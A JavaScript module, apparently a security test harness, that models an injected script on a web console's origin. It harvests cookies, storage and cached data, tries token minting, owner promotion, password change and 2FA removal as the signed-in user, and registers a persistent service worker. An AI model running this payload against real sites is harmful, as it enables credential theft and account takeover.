// A script on the console's own origin, which no policy stopped: what it finds, and what it asks for. Each function runs in the page.

export const CREDENTIAL = /at[a-z]_[A-Za-z0-9]{49}/;

/** Everything a script finds that outlives the page, and whatever is in the page. */
export async function everythingKept() {
  const kept = [document.cookie, JSON.stringify(localStorage), JSON.stringify(sessionStorage), document.documentElement.outerHTML, location.href, JSON.stringify(history.state), name];
  for (const { name: database } of await indexedDB.databases()) kept.push(database);
  for (const cache of await caches.keys()) {
    for (const request of await (await caches.open(cache)).keys()) kept.push(request.url, await (await caches.match(request)).text());
  }
  const seen = new Set();
  const walk = (value) => {
    if (typeof value === 'string') kept.push(value);
    else if (value && typeof value === 'object' && !seen.has(value) && seen.size < 50_000 && !(value instanceof Node) && value !== window) {
      seen.add(value);
      for (const key of Object.keys(value)) walk(value[key]);
    }
  };
  for (const key of Object.keys(window)) if (!['window', 'self', 'frames', 'parent', 'top', 'document'].includes(key)) walk(window[key]);
  return kept.join('\n');
}

/** Asks every row that gives a credential or power, or protects the account, as the person who is signed in. */
export async function tryToGive() {
  const document = await (await fetch('/openapi.json')).json();
  const rows = Object.entries(document.paths).flatMap(([path, methods]) => Object.entries(methods).filter(([, row]) => row['x-gives']).map(([method]) => [method.toUpperCase(), path]));
  rows.push(['POST', '/api/password'], ['POST', '/api/2fa/enable'], ['POST', '/api/2fa/recovery-codes'], ['DELETE', '/api/2fa']);
  const { user } = await (await fetch('/api/whoami')).json();
  const bodies = {
    '/api/tokens': { name: 'taken' }, '/api/s3/credentials': { name: 'taken' }, '/api/members': { username: 'taken1', role: 'member' },
    '/api/org/members': { username: 'taken2', role: 'member' }, '/api/orgs': { name: 'Taken', owner: { username: 'taken3', password: 'a password of the thief' } },
    '/api/beta/prospects/{id}/decide': { decision: 'accept', invite: { org: 'Taken' } },
    '/api/executors': { name: 'taken', mode: 'pull' }, '/api/org/executors': { name: 'taken too', mode: 'pull' }, '/api/password': { new_password: 'a password of the thief' },
    '/api/members/{id}': { role: 'owner' }, '/api/org/members/{id}': { org_role: 'org_owner' }, '/api/orgs/{ref}': { domain: 'thief.example', waive_proof: true },
  };
  const tries = [];
  for (const [method, path] of rows) {
    for (const headers of [{}, { 'atrium-session': 'cookie' }, { 'atrium-session': 'bearer' }, { 'x-http-method-override': 'GET' }, { 'idempotency-key': `steal ${path}` }]) {
      const answer = await fetch(path.replace(/\{id\}|\{ref\}/, user.id), { method, headers, body: JSON.stringify(bodies[path] ?? {}) });
      tries.push([method, path, answer.status, (await answer.json()).code]);
    }
  }
  return tries;
}

/** Registers a worker of its own, which would answer for pages when the script is long gone: for the whole console, and for stored files. */
export async function tryToStay(address) {
  const ends = [];
  for (const options of [{ scope: '/' }, {}]) ends.push(await navigator.serviceWorker.register(address, options).then(() => 'registered', (error) => error.name));
  return ends;
}
